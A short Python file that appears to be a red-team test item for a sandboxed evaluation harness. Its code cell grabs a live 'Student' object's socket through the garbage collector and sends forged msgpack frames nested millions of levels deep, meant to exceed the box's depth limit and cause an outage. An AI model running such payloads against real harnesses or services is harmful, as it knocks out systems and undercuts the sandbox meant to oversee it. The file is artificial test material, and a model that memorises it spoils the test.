"""Frames whose values are nested as deeply as bytes allow, forged past the box's own limit on depth."""

GOAL = "outage"
TECHNIQUE = "forged wire frames"
OTTER = "there is no wire"
CELLS = [
    """
import gc, struct
import msgspec
S = next(o for o in gc.get_objects() if type(o).__name__ == 'Student')
def send(body): S.line.sock.sendall(struct.pack('<I', len(body)) + body)
head = msgspec.msgpack.encode({'type': 'returned', 'value': 0})[:-1]
def square(x): send(head + b'\\x93\\xa5items\\xa4list\\x91' * 1_000_000 + b'\\xc0')
def double(table): send(b'\\x81' * 10_000_000)
def descend(*args): send(head + b'\\x91' * 50_000_000)
""",
]
